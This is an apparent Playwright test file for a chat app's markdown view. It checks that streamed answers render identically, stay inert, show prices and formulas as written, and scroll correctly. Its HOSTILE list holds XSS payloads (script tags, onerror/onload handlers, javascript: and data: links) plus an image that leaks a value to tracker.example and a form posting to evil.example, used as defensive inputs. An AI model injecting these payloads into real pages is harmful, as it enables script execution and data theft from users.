"""What the model writes: shown whole, never run, the same while it grows and when it is complete."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.e2e.tab import Tab

pytestmark = pytest.mark.browser

HOSTILE = (
    '<script>document.title="owned"</script>',
    '<img src=x onerror=alert("owned")>',
    '<svg onload=alert("owned")>',
    "[x](javascript:alert('owned'))",
    "[y](data:text/html,<script>alert(1)</script>)",
    '<https://a.example/"onmouseover=alert(1)>',
    "![z](https://tracker.example/p.png?q=secret)",
    '```\n<form action="https://evil.example"><input name=p>\n```',
)
HARMLESS = "Use <channel> and List<String>, a < b, Keep <these rows>."
AS_WRITTEN = (
    "Tickets are $8 and $14.",
    "月费 $212 → $37，年省 ~$2,100",
    "US$ 45 mi, R$ 12",
    "$$x^2$$",
    "\\(a+b\\) and \\[c_1 * d_2\\]",
    "snake_case_name and 5 * 6 * 7",
    HARMLESS,
)
MARKDOWN = """# Title

Some **bold *and italic*** text, `code`, ~~gone~~, [a link](https://example.org/a) and <https://example.org>.

1. one
2. two
   - nested
   ```js
   let a = "<b>";
   ```
3. three

- [ ] loose

- item

> quote
lazy

| a | b |
|---|--:|
| 1 | 2 |

~~~
tilde
~~~
````md
```py
inner
```
````
$$x^2$$ and \\(a+b\\), `$HOME` and $PATH, a_b_c, 5 * 6 * 7, **“中文”**文字

    indented

---
```
open to the end
"""
# Feeds a text bit by bit, then compares with the view of the whole text.
GROW = """async ([text, step]) => {
  const { MarkdownView } = await import("/static/chat/markdown/view.js");
  const grown = new MarkdownView(document.createElement("div"));
  for (let end = 0; end < text.length; end += step) grown.update(text.slice(0, end), false);
  grown.update(text, true);
  const whole = new MarkdownView(document.createElement("div"));
  whole.update(text, true);
  return [grown.root.innerHTML, whole.root.innerHTML];
}"""
SHOW = """async (text) => {
  const { MarkdownView } = await import("/static/chat/markdown/view.js");
  const view = new MarkdownView(document.createElement("div"));
  view.update(text, true);
  return view.root.textContent;
}"""


def test_a_text_looks_the_same_however_it_arrived(tab: Tab) -> None:
    for text in (MARKDOWN, MARKDOWN.replace("\n", "\r\n"), "\n\n".join(HOSTILE), HARMLESS):
        for step in (1, 2, 5, 17):
            grown, whole = tab.page.evaluate(GROW, [text, step])
            assert grown == whole, step


@pytest.mark.parametrize("num_chars", [1, 1000])
def test_hostile_text_is_shown_and_never_run(tab: Tab, num_chars: int) -> None:
    text = "\n\n".join([*HOSTILE, HARMLESS])
    pieces = [text[start : start + num_chars] for start in range(0, len(text), num_chars)]
    tab.ask_script(pieces=pieces)
    tab.wait_for_end()
    for _ in range(2):
        shown = tab.answer_text
        assert HARMLESS in shown
        assert HOSTILE[0] in shown
        assert '<form action="https://evil.example">' in shown
        assert tab.page.locator("#transcript :is(img, script, form, iframe)").count() == 0
        links = tab.answer.locator(".text a").evaluate_all("links => links.map(a => [a.protocol, a.rel])")
        assert all(link == ["https:", "noopener nofollow"] for link in links)
        tab.page.reload()
        tab.wait_for_end()


def test_hostile_questions_and_titles_stay_text(tab: Tab) -> None:
    for text in (HOSTILE[1], HARMLESS):
        tab.new_chat()
        tab.ask(text)
        tab.wait_for_end()
        expect(tab.page.locator("article.question .said").last).to_have_text(text)
        expect(tab.page.locator("#conversations li").first).to_contain_text(text[:20])
        assert text in tab.answer_text


def test_money_and_formulas_are_shown_as_written(tab: Tab) -> None:
    for text in AS_WRITTEN:
        assert tab.page.evaluate(SHOW, text) == text


def test_the_view_follows_until_the_reader_scrolls_up(tab: Tab) -> None:
    lines = "\n\n".join(f"Paragraph number {i}" for i in range(80))
    tab.ask_script(text=lines, delay_ms=15)
    tab.wait_for_text("number 30")
    scroller = "document.querySelector('#scroller')"
    at_end = f"() => {scroller}.scrollHeight - {scroller}.scrollTop - {scroller}.clientHeight < 30"
    tab.page.wait_for_function(at_end)
    tab.page.mouse.move(600, 300)
    tab.page.mouse.wheel(0, -300)
    tab.wait_for_text("number 40")
    place = tab.page.evaluate(f"{scroller}.scrollTop")
    tab.wait_for_end()
    assert tab.page.evaluate(f"{scroller}.scrollTop") == place
    tab.page.get_by_role("button", name="To the end").click()
    tab.page.wait_for_function(at_end)


def test_a_window_of_another_size_shows_the_end_again_to_whoever_was_there(tab: Tab) -> None:
    tab.ask_script(
        text="\n\n".join("So many words that a narrow window needs more lines. " * 4 for _ in range(20))
    )
    tab.wait_for_end()
    scroller = "document.querySelector('#scroller')"
    at_end = f"() => {scroller}.scrollHeight - {scroller}.scrollTop - {scroller}.clientHeight < 30"
    tab.page.wait_for_function(at_end)
    tab.page.set_viewport_size({"width": 390, "height": 500})
    tab.page.wait_for_function(at_end)
    tab.page.evaluate(f"{scroller}.scrollTop = 200")
    expect(tab.page.get_by_role("button", name="To the end")).to_be_visible()
    tab.page.set_viewport_size({"width": 700, "height": 600})
    tab.page.wait_for_function("() => innerWidth === 700")
    assert not tab.page.evaluate(at_end), "a reader who went up is left alone"
